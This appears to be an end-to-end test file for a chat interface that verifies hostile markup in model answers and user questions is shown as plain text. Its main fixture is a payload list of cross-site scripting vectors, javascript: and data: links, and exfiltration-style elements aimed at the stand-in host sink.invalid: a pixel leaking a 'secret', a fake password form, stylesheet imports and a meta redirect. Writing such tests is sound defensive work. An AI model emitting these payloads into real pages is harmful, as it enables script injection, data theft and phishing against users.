"""Model output is untrusted: whatever it says, no script runs, no request leaves (S-5, A-160 ff)."""

import pytest
from playwright.async_api import expect

from tests.e2e.conftest import Open
from tests.e2e.reader import Reader
from tests.fakes.script import encoded
from tests.harness.process import ServerProcess

pytestmark = pytest.mark.anyio

HOSTILE = """<img src=x onerror="window.ran=1"> <svg onload="window.ran=1"></svg>
<script>window.ran = 1</script>
<iframe src="javascript:window.top.ran=1"></iframe>

[press](javascript:window.ran=1) [press](java\tscript:window.ran=1) [press](&#106;avascript:window.ran=1)
[press](data:text/html,<script>window.ran=1</script>) [press](vbscript:window.ran=1) [press](//sink.invalid/x)

![pixel](https://sink.invalid/pixel?d=secret) ![x" onerror="window.ran=1](https://sink.invalid/a.png)
![by reference][pixel]

<style>@import "https://sink.invalid/style.css"; body { display: none }</style>
<link rel="stylesheet" href="https://sink.invalid/sheet.css"><base href="https://sink.invalid/">
<form action="https://sink.invalid/"><input name="password"><button>Sign in</button></form>
<meta http-equiv="refresh" content="0;url=https://sink.invalid/">

[https://bank.example](https://sink.invalid/login) <https://sink.invalid/auto> https://sink.invalid/bare

```html
<script>window.ran = 1</script>
```

[pixel]: https://sink.invalid/pixel.png

The end.
"""


async def harmless(reader: Reader) -> None:
    """Press every link that has no safe scheme's look, and assert that nothing ran or was drawn."""
    assert await reader.page.evaluate("window.ran") is None
    drawn = reader.answers.locator(
        "img, script, style, iframe, form, link, base, meta, object, .prose svg:not(.lucide)"
    )
    await expect(drawn).to_have_count(0)
    addresses = await reader.answers.locator(".prose a").evaluate_all(
        "links => links.map(link => link.protocol)"
    )
    assert set(addresses) <= {"https:"}
    assert reader.foreign == []


@pytest.mark.parametrize("pace", ["", ";dt=0.005", ";split"], ids=["at once", "word by word", "byte by byte"])
async def test_hostile_words_stay_words(reader: Reader, pace: str) -> None:
    """However the payload is split over chunks, it ends as text."""
    await reader.ask(f"Do your worst [[text={encoded(HOSTILE)}{pace}]]")
    await reader.settled()
    await expect(reader.text).to_contain_text("The end.")
    await expect(reader.text).to_contain_text("<script>window.ran = 1</script>")
    await harmless(reader)
    await expect(reader.text.get_by_role("link", name="https://bank.example")).to_contain_text(
        "(sink.invalid)"
    )
    await expect(reader.text.get_by_role("link", name="Image: pixel")).to_have_attribute(
        "rel", "noopener noreferrer nofollow ugc"
    )
    await reader.page.reload()
    await reader.settled()
    await harmless(reader)


async def test_what_a_person_writes_is_text_too(open_window: Open, builtin_server: ServerProcess) -> None:
    """A question, and the title made of it, are shown as they were typed."""
    reader = await open_window(builtin_server.url)
    question = "<img src=x onerror=window.ran=1> **not bold**"
    await reader.ask_and_wait(question)
    await expect(reader.questions).to_have_text([question])
    await expect(reader.page.locator(".session.current")).to_contain_text("<img src=x")
    assert await reader.page.evaluate("window.ran") is None


async def test_an_answer_that_ends_in_half_a_mark_harms_nothing(reader: Reader) -> None:
    """An unclosed fence, link or tag at the end of a stopped answer is text."""
    for text in (
        "```js\nalert(1)",
        "[a](javascript:alert(1)",
        "<img src=x onerror=window.ran=1",
        "**bold [1",
    ):
        await reader.ask_and_wait(f"Half [[text={encoded(text)}]]")
        await harmless(reader)
